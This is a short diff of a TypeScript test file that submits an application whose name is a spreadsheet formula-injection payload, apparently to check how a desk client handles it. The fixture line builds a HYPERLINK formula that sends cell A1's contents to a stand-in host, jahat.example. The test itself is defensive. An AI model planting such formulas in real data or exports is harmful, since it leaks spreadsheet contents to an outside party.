@@ -8,7 +8,7 @@ let w: World;
 let desk: DeskClient;
 const trap = '=HYPERLINK("https://jahat.example?x="&A1,"klik")';
 beforeAll(async () => {
-  w = await startWorld({ prints: false });
+  w = await startWorld();
   desk = deskOf(w);
   await desk.signIn();
   await w.submit(submission({ application: { type: 'aplikasi', name: trap, summary: 'x' } }));
